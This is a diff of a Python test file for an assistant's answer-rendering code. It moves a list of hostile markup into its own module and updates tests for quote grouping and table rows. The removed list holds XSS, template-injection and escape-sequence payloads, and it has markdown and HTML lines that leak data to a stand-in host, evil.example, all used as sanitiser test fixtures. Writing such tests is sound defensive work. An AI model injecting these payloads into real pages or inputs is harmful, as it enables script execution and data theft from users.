@@ -18,13 +18,12 @@ from kin_assistant.rendering import (
     period,
     places,
     plain,
-    quoted_words,
     reference_list,
     refusal_html,
     section_at,
     verified,
 )
-from kin_assistant.rendering.markdown import paragraphs, quoted_sentences
+from kin_assistant.rendering.markdown import group_by_document, join_paragraphs
 from kin_assistant.types import (
     Answer,
     AnswerSentence,
@@ -40,74 +39,7 @@ from kin_assistant.types import (
 )
 from kin_assistant.ui.conversation import Turn, conversation_html
 from tests.doubles import QUESTION, UNKNOWN, AssistantDouble
-
-HOSTILE = (
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<img src=x onerror=alert(1)>",
-    "<img src='https://evil.example/leak?q=1'>",
-    '"><img src=x onerror=alert(1)>',
-    "'><img src=x onerror=alert(1)>",
-    '" onmouseover="alert(1)',
-    "' onfocus='alert(1)' autofocus='",
-    "` onclick=alert(1) `",
-    "<svg/onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<math><mtext><script>alert(1)</script></mtext></math>",
-    "<iframe src=javascript:alert(1)></iframe>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<object data=data:text/html,<script>alert(1)</script>></object>",
-    "<embed src=//evil.example/x.swf>",
-    "<video src=x onerror=alert(1)></video>",
-    "<audio src=x onerror=alert(1)></audio>",
-    "<body onload=alert(1)>",
-    "<base href=//evil.example/>",
-    "<link rel=stylesheet href=//evil.example/x.css>",
-    "<meta http-equiv=refresh content='0;url=//evil.example'>",
-    "<style>@import '//evil.example/x.css';</style>",
-    "<div style='background:url(//evil.example/x)'>",
-    "<form action=//evil.example><button>send</button></form>",
-    "<input onfocus=alert(1) autofocus>",
-    "<details open ontoggle=alert(1)>",
-    "<marquee onstart=alert(1)>",
-    "<a href='javascript:alert(1)'>x</a>",
-    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
-    "<template><script>alert(1)</script></template>",
-    "</textarea><script>alert(1)</script>",
-    "</title><script>alert(1)</script>",
-    "</style><script>alert(1)</script>",
-    "</script><script>alert(1)</script>",
-    "--><script>alert(1)</script>",
-    "<!--<img src=x onerror=alert(1)>-->",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<?xml version='1.0'?><x/>",
-    "<x onclick=alert(1)>click</x>",
-    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#60;img src=x onerror=alert(1)&#62;",
-    "%3Cscript%3Ealert(1)%3C/script%3E",
-    "\\u003cscript\\u003ealert(1)",
-    "![x](https://evil.example/leak)",
-    "![x][leak]\n\n[leak]: https://evil.example/leak",
-    "[x](javascript:alert(1))",
-    "[x](https://evil.example 'title')",
-    "<https://evil.example/leak>",
-    "https://evil.example/leak",
-    "[leak]: https://evil.example/leak",
-    "```html\n<script>alert(1)</script>\n```",
-    "# heading\n---\n* * *",
-    "| a | b |\n|---|---|",
-    "${alert(1)}",
-    "{{constructor.constructor('alert(1)')()}}",
-    "{{#each value}}<img src=x>{{/each}}",
-    "\x1b]52;c;aGVsbG8=\x07\x1b[2J",
-    "\x00<script>\x00alert(1)</script>",
-    "<scr\x00ipt>alert(1)</scr\x00ipt>",
-    "\u202egnp.<script>\u202c",
-    "\ud800<script>alert(1)</script>",
-    "<\u200bscript>alert(1)</script>",
-)
+from tests.hostile.markup import HOSTILE
 
 ALLOWED = {
     "a": {"class", "href", "id", "target", "rel", "title", "aria-label", "data-number"}
@@ -341,14 +273,19 @@ def test_sentences_of_one_paragraph_stand_in_one_quote(
     assistant: AssistantDouble, infos: dict[str, DocumentInfo]
 ) -> None:
     answer = assistant.ask(QUESTION)
-    quoted = quoted_sentences(answer)
+    groups = group_by_document(answer)
+    quoted = [pair for group in groups for pair in group]
     together = [(first, second) for (_, first), (_, second) in pairwise(quoted) if second.continues(first)]
     assert together, "the double's answer holds two sentences of one paragraph"
-    assert len(paragraphs(quoted)) == len(quoted) - len(together)
+    paragraphs = [paragraph for group in groups for paragraph in join_paragraphs(group)]
+    assert len(paragraphs) == len(quoted) - len(together)
     markdown = answer_markdown(answer, infos)
     for first, second in together:
         assert f"[{first.number}] {second.quote.split()[0]}" in markdown
-    assert answer_html(answer).count("<blockquote") == len(paragraphs(quoted))
+    shown = re.findall(r"<blockquote[^>]*>(.*?)</blockquote>", answer_html(answer))
+    assert [parse(paragraph).text for paragraph in shown] == [
+        " ".join(f"{citation.quote}\xa0{citation.number}" for _, citation in paragraph) for paragraph in paragraphs
+    ]
 
 
 def test_reasons_are_given_when_asked_for(assistant: AssistantDouble) -> None:
@@ -462,11 +399,12 @@ def test_a_section_is_found_by_an_offset(assistant: AssistantDouble) -> None:
     assert section_at(document, 0) == ""
 
 
-def test_a_table_row_keeps_its_bars_as_hidden_text() -> None:
-    html = quoted_words("| 2009 | 1,150 tons |")
-    assert parse(html).text == "| 2009 | 1,150 tons |"
+def test_a_table_row_keeps_its_bars_as_hidden_text(assistant: AssistantDouble) -> None:
+    html = answer_html(assistant.ask(QUESTION))
+    assert html.count("kin-row") == 1, "one quote of the double's answer is a row"
+    assert "| 2009 | 1,150 tons |" in parse(html).text
     assert html.count("kin-cell") == 2
-    assert quoted_words("a | b").count("kin-cell") == 0
+    assert html.count("kin-bar") == 3
 
 
 def test_places_and_periods_are_short() -> None:
